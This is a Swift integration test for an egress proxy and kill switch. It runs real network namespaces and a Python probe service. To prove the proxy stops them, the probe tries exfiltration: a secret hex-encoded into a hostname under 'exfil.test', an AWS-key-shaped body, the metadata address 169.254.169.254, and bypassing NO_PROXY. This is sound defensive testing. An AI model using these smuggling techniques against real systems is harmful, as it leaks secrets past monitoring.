import Foundation
import Testing
import TestSupport

/// The egress proxy and the kill switch of a real `gantry run`, as root with real network
/// namespaces: a service reaches Python servers standing in for outside hosts (names pinned with
/// --egress-resolve) only through the proxy; the kill switch cuts its open tunnel and freezes a
/// process that ignores the proxy variables.
@Suite(.serialized) struct EgressRunTests {
    /// The environment's probe: each path makes one outbound attempt and answers what happened.
    static let probe = #"""
        import http.server, json, os, socket, urllib.error, urllib.parse, urllib.request
        held = []
        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                u = urllib.parse.urlparse(self.path); q = dict(urllib.parse.parse_qsl(u.query))
                if u.path == '/healthz': return self.reply('ok')
                if u.path == '/fetch':
                    data = q.get('body')
                    request = urllib.request.Request(q['url'], data=data.encode() if data else None, headers={'X-Probe': q.get('header', '-')})
                    # Through the proxy even for addresses NO_PROXY lists (what an attacker would try).
                    for name in ('no_proxy', 'NO_PROXY'): os.environ.pop(name, None)
                    opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': os.environ['HTTP_PROXY']}))
                    try:
                        with opener.open(request, timeout=10) as r: return self.reply('%d %s' % (r.status, r.read().decode()))
                    except urllib.error.HTTPError as e: return self.reply('%d %s' % (e.code, e.read().decode()))
                    except Exception as e: return self.reply('error %s' % e)
                if u.path == '/direct':
                    try:
                        socket.create_connection((q['host'], int(q['port'])), timeout=3); return self.reply('connected')
                    except Exception as e: return self.reply('error %s' % e)
                if u.path == '/dns':
                    try: return self.reply('resolved ' + socket.getaddrinfo(q['name'], 80, socket.AF_INET)[0][4][0])
                    except Exception as e: return self.reply('error %s' % e)
                if u.path == '/tunnel':
                    proxy = urllib.parse.urlparse(os.environ['HTTPS_PROXY'])
                    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
                    s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (q['target'], q['target'])).encode())
                    head = s.recv(4096).decode(); s.sendall(b'ping'); echo = s.recv(4096).decode()
                    held.append(s)
                    return self.reply(head.split('\r\n')[0] + ' / ' + echo)
                if u.path == '/env': return self.reply(json.dumps(dict(os.environ)))
                self.reply('unknown path')
            def reply(self, text):
                body = text.encode(); self.send_response(200); self.send_header('Content-Length', str(len(body))); self.end_headers(); self.wfile.write(body)
            def log_message(self, *a): pass
        http.server.ThreadingHTTPServer(('0.0.0.0', int(os.environ['PORT'])), H).serve_forever()
        """#

    /// A process that ignores the proxy: it counts, and tries the world directly, forever.
    static let ticker = """
        import os, socket, time
        n = 0
        while True:
            n += 1
            with open(os.environ['TICKS'], 'w') as f: f.write(str(n))
            try: socket.create_connection(('1.1.1.1', 80), timeout=0.05)
            except Exception: pass
            time.sleep(0.05)
        """

    /// The outside hosts: an HTTP echo and a TCP echo that logs when a connection ends.
    static let upstream = """
        import http.server, json, socket, sys, threading, time
        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self): self.answer()
            def do_POST(self): self.answer()
            def answer(self):
                n = int(self.headers.get('Content-Length') or 0); body = self.rfile.read(n).decode('latin-1') if n else ''
                out = json.dumps({'host': self.headers.get('Host'), 'headers': dict(self.headers), 'body': body}).encode()
                self.send_response(200); self.send_header('Content-Length', str(len(out))); self.end_headers(); self.wfile.write(out)
            def log_message(self, *a): pass
        threading.Thread(target=http.server.ThreadingHTTPServer(('127.0.0.1', int(sys.argv[1])), H).serve_forever, daemon=True).start()
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', int(sys.argv[2]))); s.listen(16)
        def serve(c):
            while True:
                d = c.recv(4096)
                if not d: break
                c.sendall(d)
            with open(sys.argv[3], 'a') as log: log.write('closed %f\\n' % time.time())
        while True:
            c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
        """

    func status(_ state: String, _ name: String) -> [String: Any]? {
        guard let result = try? gantry("status", "--state", state, "--json"), result.status == 0,
              let object = try? JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any],
              let environments = object["environments"] as? [[String: Any]] else { return nil }
        return environments.first { $0["name"] as? String == name }
    }

    func log(_ state: String) -> String {
        String(((try? String(contentsOfFile: state + "/run.log", encoding: .utf8)) ?? "no log").suffix(4000))
    }

    func port(_ file: String) -> Int? {
        (try? String(contentsOfFile: file, encoding: .utf8)).flatMap { Int($0.trimmingCharacters(in: .whitespacesAndNewlines)) }
    }

    /// A probe path through the router.
    func probe(_ router: Int, _ path: String) -> String {
        let result = try? Shell.run(["curl", "-s", "--max-time", "30", "-H", "Host: www.probe.localhost", "http://127.0.0.1:\(router)\(path)"])
        return result?.stdout ?? ""
    }

    func query(_ text: String) -> String { text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? text }

    /// The namespace holding `address` (the environment's own).
    func namespace(of address: String) -> String? {
        let names = (try? FileManager.default.contentsOfDirectory(atPath: "/run/netns")) ?? []
        return names.filter { $0.hasPrefix("gantry-") }.first { name in
            ((try? Shell.run(["ip", "-n", name, "-4", "-o", "addr", "show", "dev", "eth0"]))?.stdout ?? "").contains(" \(address)/")
        }
    }

    func ticks(_ file: String) -> Int { Int((try? String(contentsOfFile: file, encoding: .utf8)) ?? "") ?? -1 }

    @Test func aServiceReachesOnlyWhatItMayAndTheKillSwitchCutsItOff() throws {
        let repo = try TestRepository()
        try repo.seedExample()
        let settings = try String(contentsOfFile: repo.path + "/gantry.yaml", encoding: .utf8)
        try repo.write("gantry.yaml", settings + "egress: {default: deny, allow: [allowed.test], deny: [blocked.test]}\n")
        let work = try TemporaryDirectory().writableByEveryone()
        let ticksFile = work.path + "/ticks"
        try repo.write("apps/probe/server.py", Self.probe)
        try repo.write("apps/probe/ticker.py", Self.ticker)
        try repo.write("environments/probe.yaml", """
            apiVersion: gantry/v1
            kind: Environment
            metadata: {name: probe, team: payments, class: development}
            spec:
              egress: ["*.svc.test", blocked.test, tunnel.test]
              secrets: [api-token]
              services:
                web:
                  source: apps/probe
                  command: [python3, server.py]
                  health: {http: /healthz}
                  egress: [{host: inject.test, inject: {Authorization: "Bearer ${secrets.api-token}"}, tls: false}]
                ticker:
                  source: apps/probe
                  command: [python3, ticker.py]
                  env: {TICKS: "\(ticksFile)"}
              routes:
                - {name: www, service: web}
            """)
        try repo.commitAsOwner("A probe of the egress proxy")
        let upstream = try TemporaryDirectory()
        try Self.upstream.write(toFile: upstream.path + "/up.py", atomically: true, encoding: .utf8)
        let httpPort = try freeLoopbackPort(), tcpPort = try freeLoopbackPort()
        let closedLog = upstream.path + "/closed.log"
        let servers = SpawnedProcess()
        servers.start(["python3", upstream.path + "/up.py", "\(httpPort)", "\(tcpPort)", closedLog])
        defer { servers.stop() }
        let state = TemporaryDirectory()
        defer { killMarked(state: state.path) }
        let token = "tok-" + UUID().uuidString
        let stored = try gantry("secret", "set", "api-token", "--env", "probe", "--state", state.path, input: token)
        #expect(stored.status == 0 && stored.stdout.contains("no environment is named probe yet; the first branch to claim the name gets this secret"), "\(stored.stdout)")
        let apiPort = try freeLoopbackPort()
        var arguments = ["run", "--repo", repo.path, "--state", state.path, "--interval", "0.5", "--stop-on-exit",
                         "--router-port", "0", "--egress-port", "0", "--api", "127.0.0.1:\(apiPort)"]
        for name in ["allowed.test", "denied.test", "a.svc.test", "a.b.svc.test", "blocked.test", "inject.test"] {
            arguments += ["--egress-resolve", "\(name):\(httpPort)=127.0.0.1"]
        }
        arguments += ["--egress-resolve", "tunnel.test:\(tcpPort)=127.0.0.1"]
        let run = try GantryProcess(arguments, log: state.path + "/run.log")
        defer { run.terminate() }
        #expect(eventually(120) { status(state.path, "probe")?["phase"] as? String == "Running" }, "\(log(state.path))")
        let router = try #require(port(state.path + "/router.port"))
        let proxyPort = try #require(port(state.path + "/egress.port"))
        let up = "\(httpPort)"

        // Ordinary clients find the proxy in their environment; the secret to inject is not there.
        let environment = probe(router, "/env")
        #expect(environment.contains("\"HTTP_PROXY\": \"http://10.200.0.1:\(proxyPort)\""), "\(environment)")
        #expect(!environment.contains(token))

        // Allowed, denied, wildcard depth, deny wins, addresses.
        #expect(probe(router, "/fetch?url=" + query("http://allowed.test:\(up)/x")).hasPrefix("200 "), "\(log(state.path))")
        let denied = probe(router, "/fetch?url=" + query("http://denied.test:\(up)/"))
        #expect(denied.hasPrefix("403 ") && denied.contains("denied.test is on no allow list"), "\(denied)")
        // A name made of the secret (hex) is denied too, and reaches no record as it is.
        let smuggled = Data(token.utf8).map { String(format: "%02x", $0) }.joined()
        #expect(probe(router, "/fetch?url=" + query("http://\(smuggled.prefix(60)).exfil.test:\(up)/")).hasPrefix("403 "))
        #expect(probe(router, "/fetch?url=" + query("http://a.svc.test:\(up)/")).hasPrefix("200 "))
        #expect(probe(router, "/fetch?url=" + query("http://a.b.svc.test:\(up)/")).hasPrefix("403 "))
        let blocked = probe(router, "/fetch?url=" + query("http://blocked.test:\(up)/"))
        #expect(blocked.hasPrefix("403 ") && blocked.contains("egress.deny 'blocked.test'"), "\(blocked)")
        for url in ["http://127.0.0.1:\(up)/", "http://169.254.169.254/latest/meta-data/", "http://10.200.0.1:\(up)/"] {
            let answer = probe(router, "/fetch?url=" + query(url))
            #expect(answer.hasPrefix("403 ") && answer.contains("internal address"), "\(url): \(answer)")
        }
        // A pin opens its one port: not the router (nor Gantry's API) beside it.
        let otherPort = probe(router, "/fetch?url=" + query("http://allowed.test:\(router)/"))
        #expect(otherPort.hasPrefix("403 ") && otherPort.contains("for port \(up) only"), "\(otherPort)")
        // DNS answers allowed names only; a direct connection goes nowhere.
        #expect(probe(router, "/dns?name=allowed.test") == "resolved 127.0.0.1")
        #expect(probe(router, "/dns?name=denied.test").hasPrefix("error"))
        #expect(probe(router, "/direct?host=1.1.1.1&port=80").hasPrefix("error"))
        // Asking for many names does not flood the audit notes (a capped number of records a minute).
        for index in 0..<40 { _ = probe(router, "/dns?name=flood\(index).example.org") }
        // DLP: a credential shape, and the managed secret's value, never leave.
        let leak = probe(router, "/fetch?url=" + query("http://allowed.test:\(up)/") + "&body=" + query("key=AKIA" + "QWERTYUIOPASDFGH"))
        #expect(leak.hasPrefix("403 ") && leak.contains("pattern:aws-access-key-id"), "\(leak)")
        let secret = probe(router, "/fetch?url=" + query("http://allowed.test:\(up)/") + "&header=" + query(token))
        #expect(secret.hasPrefix("403 ") && secret.contains("secret:api-token") && !secret.contains(token), "\(secret)")
        // Injection: the proxy adds the credential the environment never held.
        let injected = probe(router, "/fetch?url=" + query("http://inject.test:\(up)/charge"))
        #expect(injected.hasPrefix("200 ") && injected.contains("Bearer \(token)"), "\(injected)")

        // An open tunnel, and a process ignoring the proxy that keeps counting.
        let tunnel = probe(router, "/tunnel?target=tunnel.test:\(tcpPort)")
        #expect(tunnel == "HTTP/1.1 200 Connection established / ping", "\(tunnel)")
        #expect(eventually(10) { ticks(ticksFile) > 0 })
        let address = try #require(((status(state.path, "probe")?["services"] as? [[String: Any]])?.first?["url"] as? String)
            .flatMap { URL(string: $0)?.host })
        let netns = try #require(namespace(of: address))
        func fromInside() -> String {
            (try? Shell.run(["ip", "netns", "exec", netns, "curl", "-s", "--max-time", "5", "-x", "http://10.200.0.1:\(proxyPort)",
                             "http://allowed.test:\(up)/"]))?.stdout ?? ""
        }
        #expect(fromInside().contains("\"host\""))

        // The kill switch: the command returns once the tunnel is cut and the processes frozen.
        let kill = try gantry("kill", "--env", "probe", "--reason", "exfiltration suspected", "--state", state.path)
        let returned = Date().timeIntervalSince1970
        #expect(kill.status == 0 && kill.stdout.contains("applied by the running gantry"), "\(kill.stdout) \(kill.stderr)")
        let closedAt = (try? String(contentsOfFile: closedLog, encoding: .utf8))?.split(separator: " ").last.flatMap { Double($0.trimmingCharacters(in: .whitespacesAndNewlines)) }
        let cut = try #require(closedAt, "the tunnel's far end saw no close when the command returned")
        #expect(cut - returned < 0.1, "cut \(cut - returned) s after the command returned")
        let refused = fromInside()
        #expect(refused.contains("kill switch"), "\(refused)")
        let frozenAt = ticks(ticksFile)
        Thread.sleep(forTimeInterval: 0.5)
        #expect(ticks(ticksFile) == frozenAt, "the process that ignores the proxy kept running")
        // Status says so, and what would lift it.
        #expect((status(state.path, "probe")?["killSwitch"] as? String)?.contains("kill switch env probe") == true)
        // A frozen environment is not woken or put to sleep by hand either.
        let wake = try gantry("wake", "probe", "--state", state.path)
        #expect(wake.status != 0 && wake.stderr.contains("frozen by the kill switch"), "\(wake.stderr)")
        // The router says why instead of waiting on a frozen process.
        #expect(probe(router, "/healthz").contains("kill switch"))
        // An agent's key cannot lift it; a human admin's can.
        let agentLift = try gantry("kill", "--env", "probe", "--off", "--key", repo.keyPath, "--state", state.path, "--repo", repo.path)
        #expect(agentLift.status != 0 && agentLift.stderr.contains("only a human with a role"), "\(agentLift.stderr)")
        let lift = try gantry("kill", "--env", "probe", "--off", "--key", repo.ownerKeyPath, "--state", state.path, "--repo", repo.path)
        #expect(lift.status == 0, "\(lift.stdout) \(lift.stderr)")
        #expect(eventually(5) { ticks(ticksFile) > frozenAt })
        #expect(status(state.path, "probe")?["killSwitch"] is NSNull)
        // The proxy's counters, per environment, on /metrics.
        let metrics = httpGet("http://127.0.0.1:\(apiPort)/metrics") ?? ""
        #expect(metrics.contains(#"gantry_egress_requests_total{environment="probe",decision="denied"}"#), "\(metrics.suffix(2000))")
        #expect(metrics.contains(#"gantry_egress_requests_total{environment="probe",decision="dlp-blocked"}"#))
        #expect(fromInside().contains("\"host\""))

        // The records: egress-denied (naming host and service), dlp-blocked (the rule), kill-switch on and off.
        let records = try gantry("audit", "log", "--repo", repo.path, "--env", "probe", "--json").stdout
        #expect(records.contains("\"egress-denied\"") && records.contains("denied.test"))
        #expect(records.contains("….exfil.test") && !records.contains(String(smuggled.prefix(24))), "a name that could carry a secret is cut in records")
        let floods = Set((try NSRegularExpression(pattern: "flood[0-9]+\\.example\\.org")).matches(in: records, range: NSRange(records.startIndex..., in: records))
            .compactMap { Range($0.range, in: records).map { String(records[$0]) } })
        #expect(!floods.isEmpty && floods.count <= 20, "\(floods.count) flooded names recorded one by one")
        #expect(records.contains("\"dlp-blocked\"") && records.contains("pattern:aws-access-key-id"))
        #expect(records.contains("\"kill-switch\"") && records.contains(TestRepository.ownerPrincipal))
        #expect(!records.contains(token))
        #expect(try gantry("audit", "verify", "--repo", repo.path, "--state", state.path).status == 0)
    }

    @Test func killSwitchOnMainFreezesEverythingUntilTheCommitIsReverted() throws {
        let repo = try TestRepository()
        try repo.seedExample()
        // One human's signature suffices for governance here (no second admin to approve).
        func settings(killSwitch: Bool) throws {
            let text = try String(contentsOfFile: repo.path + "/gantry.yaml", encoding: .utf8)
            let lines = text.split(separator: "\n", omittingEmptySubsequences: false).filter {
                !$0.hasPrefix("approvals:") && !$0.hasPrefix("  production:") && !$0.hasPrefix("  governance:") && !$0.hasPrefix("killSwitch:")
            }
            try repo.write("gantry.yaml", lines.joined(separator: "\n") + "killSwitch: \(killSwitch)\n")
        }
        try settings(killSwitch: false)
        try repo.commitAsOwner("No approvals in this test")
        let state = TemporaryDirectory()
        defer { killMarked(state: state.path) }
        let run = try GantryProcess(["run", "--repo", repo.path, "--state", state.path, "--interval", "0.5", "--stop-on-exit",
                                     "--router-port", "0", "--egress-port", "0", "--no-api"], log: state.path + "/run.log")
        defer { run.terminate() }
        #expect(eventually(120) { status(state.path, "web")?["phase"] as? String == "Running" }, "\(log(state.path))")
        let router = try #require(port(state.path + "/router.port"))
        func routed() -> String {
            (try? Shell.run(["curl", "-s", "--max-time", "10", "-H", "Host: www.web.localhost", "http://127.0.0.1:\(router)/"]))?.stdout ?? ""
        }
        #expect(routed().contains("hello"))
        // A signed commit on main turns it on: every environment is frozen, the router says why.
        try settings(killSwitch: true)
        try repo.commitAsOwner("Kill switch: everything off")
        #expect(eventually(30) { routed().contains("killSwitch: true in gantry.yaml") }, "\(routed()) \(log(state.path))")
        #expect((status(state.path, "web")?["killSwitch"] as? String)?.contains("gantry.yaml") == true)
        // No command lifts it: only the protected branch does.
        let lift = try gantry("kill", "--all", "--off", "--key", repo.ownerKeyPath, "--state", state.path, "--repo", repo.path)
        #expect(lift.status != 0 && lift.stderr.contains("revert that commit"), "\(lift.stderr)")
        // A change made meanwhile waits, with the reason.
        let web = try String(contentsOfFile: repo.path + "/environments/web.yaml", encoding: .utf8)
        try repo.write("environments/web.yaml", web.replacingOccurrences(of: "  template: python-web", with: "  template: python-web\n  services: {web: {env: {GREETING: \"changed while frozen\"}}}"))
        try repo.commitAsOwner("A change while everything is frozen")
        #expect(eventually(30) { (status(state.path, "web")?["message"] as? String)?.contains("held by the kill switch") == true }, "\(log(state.path))")
        // Reverting the switch's commit lifts it, and the held change is applied at once (not after its backoff).
        try repo.git("revert", "--no-edit", "-S", "HEAD~1")
        _ = try repo.signing(with: repo.ownerKeyPath) { try repo.git("commit", "--amend", "--no-edit", "-S") }
        #expect(eventually(8) { routed().contains("changed while frozen") }, "\(routed()) \(log(state.path))")
        #expect(status(state.path, "web")?["killSwitch"] is NSNull)
        let records = try gantry("audit", "log", "--repo", repo.path, "--env", "web", "--json").stdout
        #expect(records.contains("\"kill-switch\"") && records.contains("protected branch"))
    }
}
